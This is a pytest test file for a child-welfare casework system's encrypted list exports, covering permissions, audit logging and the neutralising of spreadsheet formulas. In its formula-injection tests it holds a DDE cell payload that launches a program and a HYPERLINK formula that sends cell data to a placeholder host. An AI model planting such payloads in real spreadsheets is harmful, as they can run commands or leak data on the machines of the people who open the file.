"""Lists that leave the house: whose, with which rows, in a file that only its passphrase opens, and never a formula."""

from __future__ import annotations

import hashlib
import json
from datetime import date, datetime
from typing import Any

import pytest
from django.utils import timezone
from hypothesis import example, given, settings
from hypothesis import strategies as st

from factories.exports import Shut, table, unpacked
from factories.families import asks
from factories.kits import gone, ordered
from factories.world import World
from wayhome.casework.accounts import actions as accounts
from wayhome.casework.accounts.rules import MFA_REQUIRED, ROLES, STEP_UP, Permission, Role
from wayhome.casework.audit.models import Alarm, AuditEvent
from wayhome.casework.children import actions as children
from wayhome.casework.children.queries import ages_on
from wayhome.casework.core.errors import Invalid, NotAllowed, NotFound
from wayhome.casework.core.numbers import grouped
from wayhome.casework.custody.rules import Kind
from wayhome.casework.overview import files
from wayhome.casework.overview.actions import exporting
from wayhome.casework.overview.actions.exporting import export_list
from wayhome.casework.overview.queries import rows
from wayhome.casework.overview.rules import lists as rules
from wayhome.casework.placements import actions as placements
from wayhome.casework.placements.sheet import SIGNS
from wayhome.web import words

WORDS = rules.new_passphrase()


def take(world: World, name: str, who: str = "supervisor", form: str = "csv", **more: Any) -> list[list[Any]]:
    """The opened file."""
    stepped_up = more.pop("stepped_up", True)
    at = more.pop("at", None) or world.now()
    asked: dict[str, Any] = {"passphrase": WORDS, "narrowed": more}
    made = export_list(name=name, form=form, by=world.actor(who, stepped_up=stepped_up), at=at, **asked)
    with made.file.file as file:
        return table(file.read(), WORDS)


def test_children_by_their_numbers_and_ages_as_intervals(world: World) -> None:
    one, other = world.in_hospital(), world.child("小梅", "M")
    told = {"least_days": 21, "most_days": 40, "method": "growth", "on": world.clock.date()}
    children.estimate_age(child=one, **told, by=world.actor("nurse"), at=world.now())
    head, *lines = take(world, "children")
    assert head == [column.code for column in rules.LISTS["children"].columns]
    assert [line[0] for line in lines] == [grouped(number) for number in sorted((one.number, other.number))]
    line = dict(zip(head, next(row for row in lines if row[0] == grouped(one.number)), strict=True))
    today = timezone.localtime(world.clock).date()
    age = ages_on([one.pk], today)[one.pk]
    assert ((today - date.fromisoformat(line["born_to"])).days, (today - date.fromisoformat(line["born_from"])).days) == (
        age.least_days,
        age.most_days,
    )
    assert (line["sex"], line["custody"], line["age_method"], line["rescued_in"]) == ("F", "hospital", age.method, "GX")


def test_rows_are_those_that_the_actor_may_know_of(world: World) -> None:
    child = world.in_hospital()
    for who in ("supervisor", "placement"):
        assert len(take(world, "children", who)) == 2
    accounts_by = world.registrars
    assert accounts_by is not None
    gd = {"agency": world.agencies["welfare_gd"], "role": "placement_officer", "id_number": "440100198001010011"}
    world.staff["placement_gd"] = accounts.register_staff(
        by=accounts_by, at=world.now(), number="placement_gd", name="孙丽", **gd
    )
    assert take(world, "children", "placement_gd") == [[column.code for column in rules.LISTS["children"].columns]]
    asks(world)
    assert len(take(world, "requests")) == 2
    kit = gone(world, ordered(world, child, by="nurse"), "taken")
    head, *lines = take(world, "kits", form="xlsx")
    assert [line[:4] for line in lines] == [[grouped(kit.number), "child", "", "taken"]]
    assert take(world, "kits", form="xlsx", state="sent") == [head]
    assert len(take(world, "kits", form="xlsx", state="taken")) == 2


@pytest.mark.parametrize("form", rules.FORMS)
def test_what_comes_out_is_what_went_in(world: World, form: str) -> None:
    world.in_hospital()
    by, at = world.actor("supervisor"), world.now()
    plain = list(rows.rows("children", {}, by=by, at=at))
    _, *lines = take(world, "children", form=form, at=at)
    told = [["" if cell is None else str(cell) for cell in row] for row in plain]
    assert [[line[0].replace(" ", ""), *map(str, line[1:])] for line in lines] == told


def test_child_days_of_a_month(world: World) -> None:
    child = world.in_home()
    placements.fund(
        facility=world.facilities["home"],
        payer=world.agencies["civil"],
        daily_rate=90,
        first_day=date(2011, 7, 1),
        by=world.actor("supervisor"),
        at=world.now(),
    )
    world.clock = datetime.fromisoformat("2011-08-02T04:00:00+00:00")
    head, line = take(world, "child_days", "placement", month="2011-07")
    told = dict(zip(head, line, strict=True))
    assert (told["child"], told["home"], told["payer"], told["rate"]) == (grouped(child.number), "home", "civil", "90")
    assert int(told["yuan"]) == 90 * int(told["days"]) > 0


def test_every_export_is_an_event_with_what_was_in_it(world: World) -> None:
    world.in_hospital()
    made = export_list(name="children", form="xlsx", narrowed={}, passphrase=WORDS, by=world.actor("supervisor"), at=world.now())
    data = made.file.file.read()
    name, content = unpacked(data, WORDS)
    assert (made.name, name) == ("children-2011-07-15.zip", "children-2011-07-15.xlsx")
    event = AuditEvent.objects.get(action="overview.export_list")
    assert (event.subject, event.staff_id) == ("list:children", world.staff["supervisor"].pk)
    assert json.loads(event.data) == {
        "form": "xlsx",
        "narrowed": {},
        "rows": 1,
        "columns": [column.code for column in rules.LISTS["children"].columns],
        "sha256": hashlib.sha256(data).hexdigest(),
        "inside": hashlib.sha256(content).hexdigest(),
    }
    assert len(data) == made.file.size
    assert WORDS not in event.data
    made.file.file.close()


def test_without_its_event_nobody_gets_the_file(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    world.in_hospital()
    held: list[Any] = []
    packed = files.packed

    def kept(*args: Any, **more: Any) -> Any:
        held.append(packed(*args, **more))
        return held[-1]

    def broken(**_: Any) -> None:
        raise RuntimeError("the chain is full")

    monkeypatch.setattr(exporting, "packed", kept)
    monkeypatch.setattr(exporting, "record", broken)
    with pytest.raises(RuntimeError, match="the chain is full"):
        take(world, "children")
    assert held[0].file.closed


def test_nothing_opens_it_but_its_passphrase(world: World) -> None:
    child = world.in_hospital()
    made = [
        export_list(name="children", form="csv", narrowed={}, passphrase=WORDS, by=world.actor("supervisor"), at=world.now())
        for _ in range(2)
    ]
    one, other = (each.file.file.read() for each in made)
    assert one != other, "salted"
    for plain in (child.number, grouped(child.number), "hospital", "born_from", WORDS):
        assert plain.encode() not in one
    for wrong in (rules.new_passphrase(), "", WORDS.replace("-", "")):
        with pytest.raises(Shut):
            table(one, wrong)
    middle = len(one) // 2
    with pytest.raises(Shut):
        table(one[:middle] + bytes([one[middle] ^ 1]) + one[middle + 1 :], WORDS)
    for each in made:
        each.file.file.close()


def test_who_may(world: World) -> None:
    may = {role for role in Role if Permission.EXPORT_LISTS in ROLES[role]}
    assert may == {Role.SUPERVISOR, Role.PLACEMENT_OFFICER, Role.LAB_SUPERVISOR}
    assert may <= MFA_REQUIRED
    assert Permission.EXPORT_LISTS in STEP_UP
    world.in_hospital()
    for who in ("officer", "nurse", "doctor", "caseworker", "analyst", "auditor", "administrator", "partner_liaison"):
        before = Alarm.objects.count()
        with pytest.raises(NotAllowed) as told:
            take(world, "children", who)
        assert told.value.code == "not_allowed"
        assert Alarm.objects.count() == before + 1, who
    # A permission to export is none to read: each list asks for its own.
    for who, name in (("placement", "requests"), ("lab_supervisor", "children"), ("supervisor", "candidates")):
        with pytest.raises(NotAllowed):
            take(world, name, who)
    assert rules.lists_of("lab_supervisor") == ["kits", "candidates"]
    assert rules.lists_of("officer") == []
    with pytest.raises(NotAllowed) as told:
        take(world, "children", stepped_up=False)
    assert told.value.code == "step_up"
    assert not AuditEvent.objects.filter(action="overview.export_list").exists()


@pytest.mark.parametrize(
    ("name", "form", "narrowed", "fields"),
    [
        ("children", "pdf", {}, {"form": "unknown_choice"}),
        ("children", "csv", {"state": "sent"}, {"state": "unknown_choice"}),
        ("kits", "csv", {"state": "eaten"}, {"state": "unknown_choice"}),
        ("child_days", "csv", {}, {"month": "unknown_choice"}),
        ("child_days", "csv", {"month": "2011-13"}, {"month": "unknown_choice"}),
        ("child_days", "csv", {"month": "2011-12"}, {"month": "in_the_future"}),
        ("child_days", "csv", {"month": "1912-01"}, {"month": "out_of_range"}),
    ],
)
def test_what_cannot_be_asked_for(world: World, name: str, form: str, narrowed: dict[str, str], fields: dict[str, str]) -> None:
    with pytest.raises(Invalid) as told:
        take(world, name, form=form, **narrowed)
    assert told.value.fields == fields


@pytest.mark.parametrize("weak", ["", "secret", "aaaa", "A" * 29, WORDS.upper(), f"{WORDS}\n"], ids=range(6))
def test_nobody_chooses_a_passphrase(world: World, weak: str) -> None:
    ask = {"name": "children", "form": "csv", "narrowed": {}, "by": world.actor("supervisor"), "at": world.now()}
    with pytest.raises(Invalid) as told:
        export_list(passphrase=weak, **ask)  # type: ignore[arg-type]
    assert told.value.fields == {"passphrase": "not_made_here"}
    with pytest.raises(NotFound):
        export_list(**(ask | {"name": "exclusions"}), passphrase=WORDS)  # type: ignore[arg-type]


def test_passphrases_are_never_the_same() -> None:
    assert len({rules.new_passphrase() for _ in range(1000)}) == 1000


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.text(max_size=20) | st.sampled_from(sorted(SIGNS)).flatmap(lambda s: st.text(max_size=8).map(s.__add__)), max_size=9
    )
)
@example(["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "＝cmd|' /C calc'!A0", "\u200b=1", '=HYPERLINK("http://x")'])
def test_no_cell_can_become_a_formula(texts: list[str]) -> None:
    columns = tuple(rules.Column(f"c{i}") for i in range(len(texts) + 1))
    for form in rules.FORMS:
        made = files.packed(
            columns, [(*texts, 7)], name="x", form=form, passphrase=WORDS, say=files.codes, at=datetime(2011, 7, 15).astimezone()
        )
        _, line = table(made.file.read(), WORDS)
        made.file.close()
        assert str(line[-1]) == "7"
        for cell in map(str, line[:-1]):
            assert not cell.lstrip(" \u200b\ufeff").startswith(tuple(SIGNS)), cell
            assert "\n" not in cell
            assert "\t" not in cell


def test_a_word_that_begins_with_a_sign_is_no_formula_either() -> None:
    made = files.packed(
        (rules.Column("a", "of"),), [("x",)], name="x", form="csv", passphrase=WORDS, say=lambda _of, code: f"={code}",
        at=datetime(2011, 7, 15).astimezone(),
    )  # fmt: skip
    assert table(made.file.read(), WORDS) == [["'=a"], ["'=x"]]
    made.file.close()


@pytest.mark.parametrize("form", rules.FORMS)
def test_a_homes_name_that_is_a_formula(world: World, form: str) -> None:
    by = world.registrars
    assert by is not None
    world.facilities["evil"] = accounts.register_facility(
        by=by, at=world.now(), code="evil", agency=world.agencies["welfare"], kind="welfare_institution",
        name='=HYPERLINK("http://x/?"&A1)', address="广西防城港市迎宾街31号", jurisdiction=world.jurisdictions["GX"],
    )  # fmt: skip
    child = world.in_hospital(cleared=True)
    placements.report_capacity(
        facility=world.facilities["evil"], by=world.actor("caseworker"), at=world.now(), beds=5, carers_day=5, carers_night=5,
        children_per_carer=6, daily_cost=120, funds=10**7,
    )  # fmt: skip
    world.hand_over(child, "evil", Kind.WELFARE_INSTITUTION, giver="nurse", receiver="caseworker")
    world.clock = datetime.fromisoformat("2011-08-02T04:00:00+00:00")
    head, line = take(world, "child_days", form=form, month="2011-07")
    assert line[head.index("home_name")] == '\'=HYPERLINK("http://x/?"&A1)'


def test_more_rows_than_a_sheet_holds(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    world.in_hospital(), world.in_hospital()
    monkeypatch.setattr(files, "MOST_ROWS", 1)
    with pytest.raises(Invalid) as told:
        take(world, "children", form="xlsx")
    assert told.value.fields == {"form": "too_many_rows"}
    assert len(take(world, "children", form="csv")) == 3


def test_every_column_has_a_heading_and_every_code_a_word() -> None:
    for listed in rules.LISTS.values():
        for column in listed.columns:
            assert column.code in words.WORDS["list_column"]
            assert column.of in ("", rules.NUMBER) or column.of in words.WORDS
        assert listed.name in words.WORDS["list"]
    assert set(words.WORDS["left_out"]) == set(rules.LEFT_OUT)
    used = {column.code for listed in rules.LISTS.values() for column in listed.columns}
    assert set(words.WORDS["list_column"]) == used


def test_batches_lose_nobody(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    numbers = {world.child().number for _ in range(5)}
    monkeypatch.setattr(rows, "A_BATCH", 2)
    _, *lines = take(world, "children")
    assert [line[0].replace(" ", "") for line in lines] == sorted(numbers)
